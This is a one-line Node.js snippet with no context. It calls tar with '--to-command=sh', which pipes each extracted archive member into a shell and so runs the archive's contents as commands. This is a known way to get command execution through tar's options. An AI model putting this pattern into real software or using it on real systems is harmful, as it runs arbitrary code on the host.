const {execFile}=require('child_process'); execFile("tar",["xf", "x", "--to-command=sh"],(e,o)=>0);
